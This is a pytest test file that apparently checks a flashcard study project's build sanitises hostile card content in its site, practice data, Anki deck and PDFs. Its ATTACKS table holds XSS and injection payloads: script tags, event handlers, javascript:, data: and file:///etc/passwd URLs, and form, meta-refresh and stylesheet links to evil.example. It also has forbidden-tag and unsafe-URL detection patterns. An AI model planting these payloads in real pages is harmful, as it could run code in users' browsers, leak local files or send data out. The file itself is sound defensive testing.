"""Hostile cards: nothing a card says runs, loads, leaks a file or reaches outside the project, in
any output. One tiny project holds every attack in every field; it is built once, for real, and
each output is read back: the site's pages, the practice data as the page inserts it, the deck
after a real Anki import, and the printed PDFs' text."""

from __future__ import annotations

import io
import json
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from anki.collection import Collection, ImportAnkiPackageOptions, ImportAnkiPackageRequest
from playwright.sync_api import Browser
from pypdf import PdfReader

from conftest import PAGE, ROOT
from peloton_prep.build import build
from peloton_prep.pdf.chromium import close_document, open_document, pdf_bytes

SECRET = "pp-secret-7f3a9c"
# Each attack class, as card Markdown. None of them is a content error: each must be made harmless.
ATTACKS = {
    "script": "<script>document.title='PWNED'</script>",
    "handler": '<b onmouseover="alert(1)" onclick="alert(2)">hover</b>',
    "attr-list": "Hover me\n{: onmouseover=\"alert(3)\" }",
    "javascript-url": "[click](javascript:alert(4))",
    "data-url": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==)",
    "file-url": "[read](file:///etc/passwd)",
    "iframe": '<iframe src="file://{secret}"></iframe>',
    "object": '<object data="file://{secret}"></object>',
    "embed": '<embed src="file://{secret}">',
    "form": '<form action="https://evil.example/"><input name="q"><button>go</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "style": "<style>body { display: none }</style>",
    "svg-script": "<svg><script>alert(6)</script></svg>",
    "endless-loop": "<script>while (true) {}</script>",
    "remote-css": '<link rel="stylesheet" href="https://evil.example/x.css">',
}
# What must not appear in any card's output, whatever the attack: read as HTML, so text that merely
# quotes an attack (escaped) is fine, and any element or attribute that could run or load is not.
FORBIDDEN_TAGS = frozenset({
    "script", "iframe", "object", "embed", "form", "base", "meta", "style", "link", "svg", "input", "button",
})
UNSAFE_URL = re.compile(r"^\s*(javascript|data|file|vbscript):|evil\.example", re.IGNORECASE)


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src", "data", "action") and UNSAFE_URL.search(value or "")):
                self.found.append(f"<{tag} {name}={value!r}>")


def dangerous(html: str) -> list[str]:
    """Every element or attribute in `html` that could run code or load something."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def hostile_cards(secret_path: Path) -> str:
    """Every attack in a Q&A back and front, and in a cloze's text and extra."""
    cards = []
    for index, (name, attack) in enumerate(ATTACKS.items()):
        markdown = attack.replace("{secret}", str(secret_path))
        # Words of its own for each card, so no two fronts look like one question asked twice.
        own, also_own = (" ".join(f"{prefix}{index}{letter}" for letter in "abcdefgh") for prefix in "wz")
        cards.append({
            "id": f"qa-{name}", "kind": "qa", "front": f"Question {name} {own} {markdown}?",
            "back": f"Answer {name}.\n\n{markdown}", "tags": ["role::pm", "round::trade-offs"],
            "page": "test.md", "section": "idempotency", "source": "seed:pm-system-design",
        })
        cards.append({
            "id": f"cloze-{name}", "kind": "cloze",
            "text": f"Cloze {also_own} {{{{c1::{name}}}}} {markdown}",
            "extra": f"Extra {name}.\n\n{markdown}", "tags": ["role::pm", "round::trade-offs"],
            "page": "test.md", "section": "latency-budgets", "source": "seed:pm-system-design",
        })
    return yaml.safe_dump(cards, sort_keys=False)


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny project with every attack, built for real; returns its build/ folder."""
    root = tmp_path_factory.mktemp("hostile")
    secret = root.parent / "secret.txt"
    secret.write_text(f"{SECRET}\n")
    config = yaml.safe_load((ROOT / "mkdocs.yml").read_text())
    config["nav"] = [{"Test": "test.md"}]
    (root / "mkdocs.yml").write_text(yaml.safe_dump(config))
    (root / "mkdocs-offline.yml").write_text((ROOT / "mkdocs-offline.yml").read_text())
    (root / "docs").mkdir()
    (root / "docs" / "test.md").write_text(PAGE)
    for folder in ("cards", "diagrams", "solutions"):
        (root / folder).mkdir()
    (root / "cards" / "hostile.yaml").write_text(hostile_cards(secret))
    build(root, root / "build", ("a4",), lambda line: None)
    return root / "build"


def card_blocks(html: str) -> list[str]:
    return re.findall(r'<details class="[^"]*pp-card".*?</details>', html, re.DOTALL)


def test_site_cards_are_inert(hostile_build: Path) -> None:
    """On the site and in the offline zip, no card block holds markup that can run or load."""
    html = (hostile_build / "site" / "test" / "index.html").read_text()
    blocks = card_blocks(html)
    assert len(blocks) == 2 * len(ATTACKS)
    for block in blocks:
        assert not dangerous(block), dangerous(block)
    with zipfile.ZipFile(hostile_build / "peloton-prep-offline.zip") as archive:
        offline = archive.read("test.html").decode()
    assert all(not dangerous(block) for block in card_blocks(offline))


def test_practice_data_is_inert(hostile_build: Path) -> None:
    """The practice page inserts these faces as HTML: they hold nothing that can run or load."""
    script = (hostile_build / "site" / "assets" / "practice-cards.js").read_text()
    records = json.loads(script.split("=", 1)[1].strip().rstrip(";"))
    assert len(records) == 2 * len(ATTACKS)
    for record in records:
        for face in (record["front"], record["back"]):
            assert not dangerous(face), (record["id"], face)


def test_deck_fields_are_inert_after_a_real_import(hostile_build: Path, tmp_path: Path) -> None:
    """Imported by the official anki library, no note field holds markup that can run or load."""
    col = Collection(str(tmp_path / "collection.anki2"))
    try:
        options = ImportAnkiPackageOptions(with_scheduling=True)
        request = ImportAnkiPackageRequest(package_path=str(hostile_build / "peloton-prep.apkg"), options=options)
        col.import_anki_package(request)
        notes = [col.get_note(note_id) for note_id in col.find_notes("")]
        assert len(notes) == 2 * len(ATTACKS)
        for note in notes:
            for value in note.fields[:2]:
                assert not dangerous(value), value
    finally:
        col.close()


def test_printed_pdfs_leak_nothing(hostile_build: Path) -> None:
    """Neither the guide nor the card sheets show a local file's content or ran a card's script."""
    for name in ("peloton-prep-guide.pdf", "peloton-prep-cards.pdf"):
        reader = PdfReader(io.BytesIO((hostile_build / name).read_bytes()))
        text = " ".join(page.extract_text() or "" for page in reader.pages)
        assert SECRET not in text and "root:x:0:0" not in text and "PWNED" not in text
        assert "Answer script" in text or name.startswith("peloton-prep-cards")


def test_the_printer_itself_loads_nothing_outside_its_folder(browser: Browser, tmp_path: Path) -> None:
    """Even unsanitised HTML cannot make the printing browser run a script, read a file elsewhere
    or fetch from the network: a second line of defence behind the sanitiser."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    folder = tmp_path / "print"
    folder.mkdir()
    html = (
        f'<!DOCTYPE html><html><body><p>Visible text</p><iframe src="{secret.as_uri()}"></iframe>'
        f'<object data="{secret.as_uri()}"></object><img src="https://evil.example/x.png">'
        "<script>document.body.append('SCRIPT RAN'); while (true) {}</script></body></html>"
    )
    page = open_document(browser, html, folder / "doc.html")
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    pdf = pdf_bytes(page)
    close_document(page)
    text = " ".join(p.extract_text() or "" for p in PdfReader(io.BytesIO(pdf)).pages)
    assert "Visible text" in text and SECRET not in text and "SCRIPT RAN" not in text
